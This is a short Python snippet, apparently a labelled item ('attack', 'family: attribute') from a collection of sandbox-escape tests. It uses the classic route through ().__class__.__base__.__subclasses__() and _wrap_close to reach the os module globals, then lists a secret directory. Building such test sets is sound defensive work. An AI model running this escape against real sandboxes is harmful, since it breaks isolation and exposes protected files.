# attack: from the empty tuple to all classes of the interpreter, and through one of them to its module
# family: attribute
for one in ().__class__.__base__.__subclasses__():
    if one.__name__ == "_wrap_close":
        space = one.__init__.__globals__
        print("REACHED", space["getcwd"]())
        print(space["listdir"]("$SECRET_DIR"))
